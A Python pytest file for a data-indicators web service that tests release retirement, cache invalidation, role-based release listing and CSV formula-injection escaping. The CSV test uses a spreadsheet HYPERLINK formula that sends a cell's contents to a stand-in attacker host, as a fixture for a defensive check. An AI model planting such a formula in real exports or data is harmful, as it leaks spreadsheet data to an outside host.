"""Served releases and cached answers: a retired release stops being served at once."""

import csv
import io
import os

import pyarrow as pa
import pyarrow.parquet as pq
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlmodel import Session

from indicators.results import RESULT_SCHEMA
from schemas.catalog import Release
from service.settings import Settings
from tests.service.conftest import Headers, ReleaseWriter, indicator_rows

RESULTS = "/api/v1/indicators/results"
RELEASES = "/api/v1/releases"


def retire(app: FastAPI, number: int) -> None:
    # As an erasure does, from its own session (another process, in production).
    with Session(app.state.engine) as session:
        release = session.get(Release, number)
        assert release is not None
        release.retired = True
        session.add(release)
        session.commit()


class TestServedRelease:
    def test_retired_release_is_not_served_from_the_answer_cache(
        self, client: TestClient, app: FastAPI, publish: ReleaseWriter
    ) -> None:
        publish(1)
        publish(2)
        params = {"indicator": "plan", "level": "nation", "context": "caregiver"}
        latest = client.get(RESULTS, params=params)
        assert latest.json()["release"] == 2
        assert client.get(RESULTS, params=params).json()["release"] == 2  # now from the cache
        retire(app, 2)
        fallback = client.get(RESULTS, params=params)
        assert fallback.json()["release"] == 1
        assert [r["numerator"] for r in fallback.json()["items"]] == [60, 75]
        assert fallback.headers["etag"] != latest.headers["etag"]
        explicit = client.get(RESULTS, params={**params, "release": 2})
        assert explicit.status_code == 404
        assert explicit.headers["content-type"] == "application/problem+json"

    def test_only_the_registry_lists_retired_releases(
        self, client: TestClient, app: FastAPI, publish: ReleaseWriter, headers: dict[str, Headers]
    ) -> None:
        publish(1)
        publish(2)
        retire(app, 1)
        listed = {
            role: [(r["number"], r["retired"]) for r in client.get(RELEASES, headers=h).json()]
            for role, h in headers.items()
        }
        assert listed == {
            "anonymous": [(2, False)],
            "trust": [(2, False)],
            "researcher": [(2, False)],
            "registry": [(2, False), (1, True)],
        }

    def test_rewritten_results_are_read_again(
        self, client: TestClient, publish: ReleaseWriter, settings: Settings
    ) -> None:
        publish(1)
        params = {"indicator": "study", "level": "nation"}
        assert [r["numerator"] for r in client.get(RESULTS, params=params).json()["items"]] == [3]
        # The indicator job run again over release 1 rewrites its file: the new numbers are
        # served, not the answer cached for the old file.
        rows = [
            r | {"numerator": 4, "value": 0.04}
            if (r["indicator_id"], r["level"]) == ("study", "nation")
            else r
            for r in indicator_rows()
        ]
        path = settings.releases_dir / "1" / "indicators.parquet"
        pq.write_table(pa.Table.from_pylist(rows, schema=RESULT_SCHEMA), path)
        stat = os.stat(path)
        os.utime(path, ns=(stat.st_atime_ns, stat.st_mtime_ns + 1_000_000_000))
        assert [r["numerator"] for r in client.get(RESULTS, params=params).json()["items"]] == [4]


class TestCsvInjection:
    def test_a_unit_code_that_is_a_formula_is_text_in_csv_as_it_is_in_json(
        self, client: TestClient, publish: ReleaseWriter, headers: dict[str, dict[str, str]]
    ) -> None:
        """unit_code is an extract's free text: in CSV a spreadsheet must not evaluate it."""
        formula = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
        rows = [r | {"unit_code": formula} if r["level"] == "unit" else r for r in indicator_rows()]
        publish(1, results=rows)
        params = {"indicator": "plan", "level": "unit"}
        csv_rows = list(
            csv.DictReader(
                io.StringIO(
                    client.get(
                        RESULTS, params=params | {"format": "csv"}, headers=headers["registry"]
                    ).text
                )
            )
        )
        assert [r["unit_code"] for r in csv_rows] == ["'" + formula]
        items = client.get(RESULTS, params=params, headers=headers["registry"]).json()["items"]
        assert [r["unit_code"] for r in items] == [formula]
